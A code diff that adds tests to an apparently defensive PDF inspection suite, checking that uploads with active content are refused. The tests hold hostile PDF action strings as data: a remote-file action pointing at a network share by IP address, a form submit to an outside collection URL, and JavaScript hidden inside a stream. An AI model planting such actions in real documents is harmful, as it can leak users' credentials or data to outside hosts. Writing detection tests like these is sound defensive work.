@@ -183,6 +183,28 @@ describe('PDF inspection', () => {
     });
   });
 
+  it('refuses actions that reach outside the file: another file or share, a form posted away, page-event actions', () => {
+    for (const action of [
+      '<< /S /GoToR /F (\\\\198.51.100.7\\s\\x.pdf) /D [0 /Fit] >>',
+      '<< /S /SubmitForm /F (https://example.test/collect) >>',
+      '<< /S /ImportData /F (data.fdf) >>',
+      '<< /S /GoToE /T << /R /C /N (x) >> >>',
+    ]) {
+      expect(refusal(minimalPdf(' /OpenAction 4 0 R', action), 'application/pdf'), action).toBe(
+        'active-content',
+      );
+    }
+    expect(
+      refusal(minimalPdf(' /AA << /O 4 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>'), 'application/pdf'),
+    ).toBe('active-content');
+  });
+
+  it('refuses an object hidden inside another stream, where a viewer following the cross-reference would find it', () => {
+    const hidden = Buffer.from('0 0 0 rg\n5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n');
+    const bytes = minimalPdf(' /OpenAction 5 0 R', stream('', hidden));
+    expect(refusal(bytes, 'application/pdf')).toBe('active-content');
+  });
+
   it('refuses JavaScript whose names are hex-escaped', () => {
     const escaped = '<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>';
     expect(refusal(minimalPdf(' /OpenAction 4 0 R', escaped), 'application/pdf')).toBe('active-content');
